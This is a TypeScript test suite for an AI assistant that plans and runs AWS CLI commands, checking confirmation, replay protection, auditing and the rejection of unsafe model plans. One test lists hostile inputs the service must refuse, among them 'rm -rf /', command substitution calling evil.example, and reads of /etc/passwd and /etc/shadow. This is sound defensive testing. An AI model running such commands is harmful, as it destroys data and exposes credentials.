import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { startTestAssistant, type TestAssistant } from '../../test/harness.ts';
import { createOpenAiPlanner } from '../planning/openai-planner.ts';

const ids = (json: unknown) => JSON.stringify(json);

describe('assistant routes against the AWS stand-in (real /usr/bin/aws)', () => {
  let t: TestAssistant;
  before(async () => {
    t = await startTestAssistant();
  });
  after(async () => t.close());

  const post = (url: string, payload: unknown, headers = t.headers()) =>
    t.app.inject({ method: 'POST', url, payload: payload as object, headers });

  test('plan: answers risk, and choices when two operations fit, for a service outside the rules', async () => {
    const res = await post('/api/plan', { query: 'show athena queries' });
    assert.equal(res.statusCode, 200, res.body);
    const body = res.json();
    assert.equal(body.planner, 'models');
    assert.equal(body.risk, 'read');
    assert.deepEqual(body.choices.map((c: { command: string }) => c.command).sort(), [
      'aws athena list-named-queries --region us-east-1',
      'aws athena list-query-executions --region us-east-1',
    ]);
    const secret = await post('/api/plan', { query: 'get secret value of prod/db from secrets manager' });
    assert.equal(secret.statusCode, 200, secret.body);
    assert.equal(secret.json().risk, 'secret');
    assert.match(secret.json().risk_reason, /reads a secret/);
  });

  test('plan: a missing required value is asked for with the member and its documentation', async () => {
    const res = await post('/api/plan', { query: 'describe sagemaker endpoint' });
    assert.equal(res.statusCode, 400, res.body);
    const error = res.json().error;
    assert.equal(error.code, 'NEEDS_INPUT');
    assert.deepEqual(error.details.missing, [
      { member: 'EndpointName', option: 'endpoint-name', documentation: 'The name of the endpoint.' },
    ]);
  });

  test('stand-in: POST /api/plan plans without running anything', async () => {
    const before = t.standIn.calls.length;
    const res = await post('/api/plan', { query: 'stop instance i-0a1b2c3d4e5f60001' });
    assert.equal(res.statusCode, 200, res.body);
    const body = res.json();
    assert.deepEqual(body.plan, {
      service: 'ec2',
      operation: 'stop-instances',
      parameters: { InstanceIds: ['i-0a1b2c3d4e5f60001'] },
      region: 'us-east-1',
    });
    assert.equal(body.read_only, false);
    assert.equal(body.planner, 'built-in');
    assert.match(body.command, /^aws ec2 stop-instances --instance-ids i-0a1b2c3d4e5f60001/);
    assert.equal(t.standIn.calls.length, before);
  });

  test('stand-in: a read-only ask runs at once, shows a table, and is saved to history and audited', async () => {
    const res = await post('/api/ask', { query: 'list ec2 instance ids' });
    assert.equal(res.statusCode, 200, res.body);
    const body = res.json();
    assert.equal(body.confirmation_needed, false);
    assert.equal(body.read_only, true);
    assert.equal(body.query, 'list ec2 instance ids');
    assert.match(body.command, /^aws ec2 describe-instances/);
    assert.match(ids(body.result.json), /i-0a1b2c3d4e5f60001/);
    assert.ok(body.result.table.rows.length >= 3);
    assert.match(body.output, /i-0a1b2c3d4e5f60002/);
    assert.match(body.reference_url, /^https:\/\/us-east-1\.console\.aws\.amazon\.com\/ec2\//);
    assert.equal(body.confirmation_id, undefined);
    assert.match(String(res.headers['server-timing']), /^aws-cli;dur=[1-9]\d*\.\d$/);
    const saved = t.saved.at(-1);
    assert.equal(saved?.query, 'list ec2 instance ids');
    assert.match(saved?.output ?? '', /i-0a1b2c3d4e5f60001/);
    assert.equal(saved?.userId, 'arn:aws:iam::111122223333:user/alice');
    const actions = (await t.auditEvents()).map((e) => e.action_type);
    for (const a of ['assistant.ask', 'assistant.plan', 'assistant.result'])
      assert.ok(actions.includes(a), a);
    const text = JSON.stringify(await t.auditEvents());
    assert.doesNotMatch(text, /alice-secret-key/);
    assert.doesNotMatch(t.logLines.join('\n'), /alice-secret-key/);
  });

  test('stand-in: a change waits for Accept, runs exactly once on Accept, and a replay fails', async () => {
    const stopsBefore = t.callsOf('StopInstances');
    const ask = await post('/api/ask', { query: 'stop instance i-0a1b2c3d4e5f60001' });
    assert.equal(ask.statusCode, 200, ask.body);
    const pending = ask.json();
    assert.equal(pending.confirmation_needed, true);
    assert.equal(pending.read_only, false);
    assert.ok(pending.confirmation_id);
    assert.ok(Date.parse(pending.expires_at) - Date.now() <= 5 * 60 * 1000);
    assert.equal(pending.dry_run.would_succeed, true);
    assert.equal(pending.dry_run.code, 'DryRunOperation');
    assert.match(pending.output, /aws ec2 stop-instances/);
    assert.equal(t.callsOf('StopInstances'), stopsBefore, 'nothing ran before Accept');
    assert.ok(t.callsOf('StopInstances', { dryRun: true }) >= 1, 'the dry run ran first');

    const accepts = await Promise.all(
      [0, 1].map(() =>
        post('/api/confirm', { confirmation_id: pending.confirmation_id, decision: 'accept' }),
      ),
    );
    const statuses = accepts.map((r) => r.statusCode).sort();
    assert.deepEqual(statuses, [200, 409], accepts.map((r) => r.body).join('\n'));
    const accepted = accepts.find((r) => r.statusCode === 200)?.json();
    assert.equal(accepted.status, 'accepted');
    assert.match(ids(accepted.result.json), /StoppingInstances/);
    assert.equal(t.callsOf('StopInstances'), stopsBefore + 1, 'exactly one StopInstances');

    const replay = await post('/api/confirm', {
      confirmation_id: pending.confirmation_id,
      decision: 'accept',
    });
    assert.equal(replay.statusCode, 409);
    assert.equal(t.callsOf('StopInstances'), stopsBefore + 1);
    const actions = (await t.auditEvents()).map((e) => e.action_type);
    for (const a of ['assistant.confirmation_requested', 'assistant.accept'])
      assert.ok(actions.includes(a), a);
  });

  test('stand-in: Decline runs nothing, is recorded, and the confirmation cannot be accepted afterwards', async () => {
    const before = t.callsOf('TerminateInstances');
    const pending = (await post('/api/ask', { query: 'terminate instance i-0a1b2c3d4e5f60003' })).json();
    assert.equal(pending.confirmation_needed, true);
    const declined = await post('/api/confirm', {
      confirmation_id: pending.confirmation_id,
      decision: 'Decline',
    });
    assert.equal(declined.statusCode, 200, declined.body);
    assert.equal(declined.json().status, 'declined');
    assert.equal(declined.json().result, undefined);
    const later = await post('/api/confirm', {
      confirmation_id: pending.confirmation_id,
      decision: 'accept',
    });
    assert.equal(later.statusCode, 409);
    assert.equal(t.callsOf('TerminateInstances'), before);
    assert.ok((await t.auditEvents()).some((e) => e.action_type === 'assistant.decline'));
    assert.match(t.saved.at(-1)?.output ?? '', /Declined: nothing was run/);
  });

  test('stand-in: an edited plan is refused and nothing runs; the shown plan stays confirmable', async () => {
    const pending = (await post('/api/ask', { query: 'stop instance i-0a1b2c3d4e5f60002' })).json();
    const before = t.callsOf('TerminateInstances') + t.callsOf('StopInstances');
    const edited = await post('/api/confirm', {
      confirmation_id: pending.confirmation_id,
      decision: 'accept',
      plan: { ...pending.plan, operation: 'terminate-instances' },
    });
    assert.equal(edited.statusCode, 409, edited.body);
    assert.equal(t.callsOf('TerminateInstances') + t.callsOf('StopInstances'), before);
    const declined = await post('/api/confirm', { confirmation_id: pending.confirmation_id, decision: 'no' });
    assert.equal(declined.statusCode, 200);
  });

  test("stand-in: another user's or another session's confirmation fails and runs nothing", async () => {
    const pending = (await post('/api/ask', { query: 'reboot instance i-0a1b2c3d4e5f60001' })).json();
    const before = t.callsOf('RebootInstances');
    const bob = await post(
      '/api/confirm',
      { confirmation_id: pending.confirmation_id, decision: 'accept' },
      t.headers('bob'),
    );
    assert.equal(bob.statusCode, 404);
    const otherSession = await post(
      '/api/confirm',
      { confirmation_id: pending.confirmation_id, decision: 'accept' },
      t.headers('alice', { sessionId: 'another-session' }),
    );
    assert.equal(otherSession.statusCode, 403);
    const byQuery = await post(
      '/api/confirm',
      { query: 'reboot instance i-0a1b2c3d4e5f60001', decision: 'yes' },
      t.headers('bob'),
    );
    assert.equal(byQuery.statusCode, 404);
    assert.equal(t.callsOf('RebootInstances'), before);
  });

  test("stand-in: the original {query, decision} resolves only the caller's pending confirmation for that query", async () => {
    const query = 'start instance i-0a1b2c3d4e5f60003';
    const pending = (await post('/api/ask', { query })).json();
    assert.equal(pending.confirmation_needed, true);
    const before = t.callsOf('StartInstances');
    const other = await post('/api/confirm', {
      query: 'start instance i-0a1b2c3d4e5f60001',
      decision: 'yes',
    });
    assert.equal(other.statusCode, 404);
    const res = await post('/api/confirm', { query, decision: 'YES' });
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.json().confirmation_id, pending.confirmation_id);
    assert.deepEqual(res.json().plan, pending.plan);
    assert.equal(t.callsOf('StartInstances'), before + 1);
    const again = await post('/api/confirm', { query, decision: 'yes' });
    assert.equal(again.statusCode, 404);
    assert.equal(t.callsOf('StartInstances'), before + 1);
  });

  test('stand-in: a read-only plan cannot be confirmed into a write', async () => {
    const query = 'list ec2 instance ids';
    const read = (await post('/api/ask', { query })).json();
    assert.equal(read.confirmation_needed, false);
    const stops = t.callsOf('StopInstances');
    const byQuery = await post('/api/confirm', { query, decision: 'accept' });
    assert.equal(byQuery.statusCode, 404);
    const withPlan = await post('/api/confirm', {
      query,
      decision: 'accept',
      plan: {
        ...read.plan,
        operation: 'stop-instances',
        parameters: { InstanceIds: ['i-0a1b2c3d4e5f60001'] },
      },
    });
    assert.equal(withPlan.statusCode, 404);
    assert.equal(t.callsOf('StopInstances'), stops);
  });

  test('refuses unknown decisions and a confirm without an id or query', async () => {
    assert.equal((await post('/api/confirm', { confirmation_id: 'x', decision: 'maybe' })).statusCode, 400);
    assert.equal((await post('/api/confirm', { decision: 'accept' })).statusCode, 400);
  });

  test('stand-in: attacks are refused with 400 and nothing reaches AWS', async () => {
    const attacks = [
      'aws ec2 describe-instances; rm -rf /',
      'aws ec2 describe-instances $(curl evil.example)',
      'aws ec2 describe-instances `id`',
      'aws ec2 describe-instances | sh',
      'aws ec2 describe-instances --endpoint-url http://evil.example',
      'aws ec2 describe-instances --profile admin',
      'aws ec2 describe-instances --no-verify-ssl',
      'aws ec2 describe-instances --debug',
      'aws ec2 describe-instances --cli-input-json file:///etc/passwd',
      'aws ec2 run-instances --user-data file:///etc/passwd --image-id ami-12345678',
      'aws iam create-policy --policy-name p --policy-document file:///etc/shadow',
      'aws s3 cp s3://bucket/key /etc/cron.d/x',
    ];
    const before = t.standIn.calls.length;
    for (const query of attacks) {
      for (const url of ['/api/ask', '/api/plan']) {
        const res = await post(url, { query });
        assert.equal(res.statusCode, 400, `${url} ${query}: ${res.body}`);
        assert.ok(res.json().error.message, query);
      }
    }
    assert.equal(t.standIn.calls.length, before);
  });

  test('answers NOT_UNDERSTOOD with suggestions for a request no planner understands', async () => {
    const res = await post('/api/ask', { query: 'please make me a sandwich with ec2 pickles' });
    assert.equal(res.statusCode, 400);
    assert.equal(res.json().error.code, 'NOT_UNDERSTOOD');
    assert.ok(Array.isArray(res.json().error.details.suggestions));
  });

  test('answers 403 with the rule for a denied operation, and runs nothing', async () => {
    const before = t.standIn.calls.length;
    const res = await post('/api/ask', { query: 'aws sts get-session-token' });
    assert.equal(res.statusCode, 403, res.body);
    assert.equal(res.json().error.details.rule.effect, 'deny');
    assert.ok(res.json().error.details.rule.actions.includes('sts:GetSessionToken'));
    assert.equal(t.standIn.calls.length, before);
  });

  test('answers 401 without the AWS session header, and 401 "sign in again" for expired credentials', async () => {
    const missing = await post(
      '/api/ask',
      { query: 'list s3 buckets' },
      t.headers('alice', { credentials: false }),
    );
    assert.equal(missing.statusCode, 401);
    const expired = await post('/api/ask', { query: 'list ec2 instance ids' }, t.headers('expired'));
    assert.equal(expired.statusCode, 401, expired.body);
    assert.match(expired.json().error.message, /sign in again/);
    const noIdentity = await t.app.inject({
      method: 'POST',
      url: '/api/ask',
      payload: { query: 'list s3 buckets' },
    });
    assert.equal(noIdentity.statusCode, 401);
  });

  test('stand-in: AWS errors are shown as AWS said them', async () => {
    const res = await post('/api/ask', {
      query: 'aws ec2 describe-instances --instance-ids i-0000000000000dead',
    });
    assert.equal(res.statusCode, 502, res.body);
    assert.match(res.json().error.message, /An error occurred \(InvalidInstanceID\.NotFound\)/);
  });
});

describe('assistant with an OpenAI-compatible stand-in planner', () => {
  let t: TestAssistant;
  let server: Server;
  let answer: unknown = undefined;
  before(async () => {
    server = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify(answer));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
    t = await startTestAssistant({ llm: createOpenAiPlanner({ baseUrl: url, model: 'stand-in' }) });
  });
  after(async () => {
    await t.close();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });
  const toolCall = (args: string) => ({
    choices: [
      {
        message: {
          tool_calls: [{ type: 'function', function: { name: 'submit_aws_plan', arguments: args } }],
        },
      },
    ],
  });
  const ask = (query: string) =>
    t.app.inject({ method: 'POST', url: '/api/ask', payload: { query }, headers: t.headers() });

  test('stand-in: a model answering in prose is rejected and nothing runs', async () => {
    answer = {
      choices: [{ message: { content: 'Sure! Run `aws ec2 terminate-instances --instance-ids i-1`.' } }],
    };
    const before = t.standIn.calls.length;
    const res = await ask('please handle the quarterly widget reconciliation');
    assert.equal(res.statusCode, 400, res.body);
    assert.match(res.json().error.message, /instead of a structured plan/);
    assert.equal(t.standIn.calls.length, before);
  });

  test('stand-in: a model plan with an unknown operation or a file:// value is rejected', async () => {
    const before = t.standIn.calls.length;
    answer = toolCall(JSON.stringify({ service: 'ec2', operation: 'destroy-everything', parameters: {} }));
    const unknown = await ask('please handle the quarterly widget reconciliation');
    assert.equal(unknown.statusCode, 400, unknown.body);
    assert.match(unknown.json().error.message, /model's plan was rejected/);
    answer = toolCall(
      JSON.stringify({
        service: 'ec2',
        operation: 'run-instances',
        parameters: { ImageId: 'ami-12345678', MinCount: 1, MaxCount: 1, UserData: 'file:///etc/passwd' },
      }),
    );
    const file = await ask('please handle the quarterly widget reconciliation');
    assert.equal(file.statusCode, 400, file.body);
    assert.equal(t.standIn.calls.length, before);
  });

  test("stand-in: a model's valid change still waits for confirmation", async () => {
    answer = toolCall(
      JSON.stringify({
        service: 'ec2',
        operation: 'stop-instances',
        parameters: { InstanceIds: ['i-0a1b2c3d4e5f60002'] },
      }),
    );
    const stops = t.callsOf('StopInstances');
    const res = await ask('please handle the quarterly widget reconciliation');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.json().confirmation_needed, true);
    assert.equal(res.json().planner, 'openai');
    assert.equal(t.callsOf('StopInstances'), stops);
  });
});

describe('assistant when history is down', () => {
  let t: TestAssistant;
  before(async () => {
    t = await startTestAssistant({ historyDown: true });
  });
  after(async () => t.close());

  test('stand-in: the ask still answers, and the outage is a warning in the logs', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/ask',
      payload: { query: 'list s3 buckets' },
      headers: t.headers(),
    });
    assert.equal(res.statusCode, 200, res.body);
    assert.match(t.logLines.join('\n'), /history unavailable/);
  });
});
